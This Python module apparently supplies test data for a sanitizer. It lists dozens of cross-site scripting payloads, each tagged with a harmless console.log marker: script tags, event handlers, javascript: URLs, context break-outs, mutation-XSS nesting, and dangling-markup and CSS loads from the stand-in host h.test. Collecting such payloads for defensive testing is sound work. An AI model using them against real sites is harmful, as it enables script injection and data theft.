"""Words that would do something in a page that does not escape them; each carries its mark."""

from __future__ import annotations

from typing import Final

MARK: Final = "hostile"
"""What every one of them calls with, where it can."""
CALL: Final = f"console.log('{MARK}')"
_SCRIPTS: Final = (
    f"<script>{CALL}</script>",
    f"<ScRiPt/x>{CALL}</sCrIpT>",
    f"<scr<script>ipt>{CALL}</script>",
    f"<script src=data:text/javascript,{CALL}></script>",
    f"</title></textarea></style></noscript></iframe></select><script>{CALL}</script>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{CALL}",
)
_HANDLERS: Final = (
    f'<img src=x onerror="{CALL}">',
    f"<img/src=x/onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<body onload={CALL}>",
    f"<marquee onstart={CALL}>",
)
_ADDRESSES: Final = (
    f'<a href="javascript:{CALL}">go</a>',
    f"[go](javascript:{CALL})",
    f"[go](jAvA\tscript:{CALL})",
    f"[go](&#106;avascript:{CALL})",
    f"<javascript:{CALL}>",
    f"![x](x){{: onerror={CALL} }}",
    f'<iframe src="javascript:{CALL}"></iframe>',
    f'<iframe srcdoc="<script>{CALL}</script>"></iframe>',
    f'<form action="javascript:{CALL}"><button>Log in</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{CALL}">',
    f'<base href="javascript:{CALL}//">',
    f"<object data=data:text/html,<script>{CALL}</script>></object>",
)
_BREAKS: Final = (
    f'" autofocus onfocus="{CALL}" x="',
    f"' autofocus onfocus='{CALL}' x='",
    f"`><svg onload={CALL}>",
    f"--><svg onload={CALL}>",
    f"]]><svg onload={CALL}>",
    f"<!--><svg onload={CALL}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    "<img src='https://h.test/?",
    "<style>*{background:url(https://h.test/x)}</style>",
    "<link rel=stylesheet href=https://h.test/x.css>",
    "<a id=__proto__ name=constructor>attributes</a>",
    "+ADw-script+AD4-",
    "{{ seven * seven }} {% raw %} ${seven}",
)
HOSTILE: Final = (*_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_BREAKS)
"""Without a digit but the zeros and ones of addresses: an edit may hold no number unproven."""
